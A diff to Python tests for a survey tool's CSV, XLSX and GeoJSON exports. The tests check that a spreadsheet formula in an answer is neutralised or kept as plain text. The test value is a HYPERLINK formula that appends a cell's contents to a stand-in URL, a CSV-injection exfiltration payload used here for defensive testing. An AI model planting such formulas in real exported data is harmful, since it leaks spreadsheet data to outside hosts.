@@ -54,16 +54,24 @@ def test_a_submission_of_a_form_not_given_is_refused_and_nothing_written(store, 
         store.export([dialogue], minga.ExportFormat.JSON, str(tmp_path / "out"))
 
 
-def test_an_analyst_reads_formulas_as_text_and_coordinates_as_numbers_in_pandas(store, dialogue, tmp_path):
+FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'
+
+
+def answered_with_a_formula_and_a_place(store, dialogue):
+    """A submission whose institution is text a spreadsheet would run, with a location."""
     sid = store.create_submission(dialogue.form_ref())
-    formula = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'
-    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=formula))
+    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=FORMULA))
     where = minga.GeoPoint(latitude=-0.2299, longitude=-78.5, altitude=None, accuracy=4.5)
     store.set_answer(sid, path("location"), minga.Value.GEO_POINT(point=where))
+    return sid
+
+
+def test_an_analyst_reads_formulas_as_text_and_coordinates_as_numbers_in_pandas(store, dialogue, tmp_path):
+    answered_with_a_formula_and_a_place(store, dialogue)
     store.export([dialogue], minga.ExportFormat.CSV, str(tmp_path))
     table = pandas.read_csv(tmp_path / "minga_stakeholder_dialogue.csv")
     # The spreadsheet would run the formula; the export writes it as text a reader can undo.
-    assert table["convening_institution"][0] == "'" + formula
+    assert table["convening_institution"][0] == "'" + FORMULA
     assert table["place-location-Longitude"].dtype.kind == "f"
     assert table["place-location-Longitude"][0] == -78.5
     assert table["place-location-Latitude"][0] == -0.2299
@@ -73,7 +81,7 @@ def test_an_analyst_reads_formulas_as_text_and_coordinates_as_numbers_in_pandas(
     properties = feature["properties"]
     assert not any(isinstance(v, (dict, list)) for v in properties.values())
     assert properties["place-location-Longitude"] == -78.5
-    assert properties["convening_institution"] == formula
+    assert properties["convening_institution"] == FORMULA
 
 
 def test_an_analyst_exports_only_approved_submissions_with_status_and_review_comment(store, dialogue, tmp_path):
@@ -98,11 +106,7 @@ def test_an_analyst_exports_only_approved_submissions_with_status_and_review_com
 
 
 def test_an_analyst_opens_the_xlsx_export_with_text_as_typed_and_numbers_as_numbers(store, dialogue, tmp_path):
-    sid = store.create_submission(dialogue.form_ref())
-    formula = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'
-    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=formula))
-    where = minga.GeoPoint(latitude=-0.2299, longitude=-78.5, altitude=None, accuracy=4.5)
-    store.set_answer(sid, path("location"), minga.Value.GEO_POINT(point=where))
+    sid = answered_with_a_formula_and_a_place(store, dialogue)
     [written] = store.export([dialogue], minga.ExportFormat.XLSX, str(tmp_path))
     assert written.endswith("minga_stakeholder_dialogue.xlsx")
     sheets = pandas.read_excel(written, sheet_name=None, engine="openpyxl")
@@ -112,7 +116,7 @@ def test_an_analyst_opens_the_xlsx_export_with_text_as_typed_and_numbers_as_numb
     assert list(table.columns) == list(pandas.read_csv(csv_dir / "minga_stakeholder_dialogue.csv").columns)
     assert list(table["KEY"]) == [f"uuid:{sid}"]
     # A workbook's text cell never runs, so the text is exactly what was answered (no ' guard).
-    assert table["convening_institution"][0] == formula
+    assert table["convening_institution"][0] == FORMULA
     assert table["place-location-Longitude"].dtype.kind == "f"
     assert table["place-location-Longitude"][0] == -78.5
 
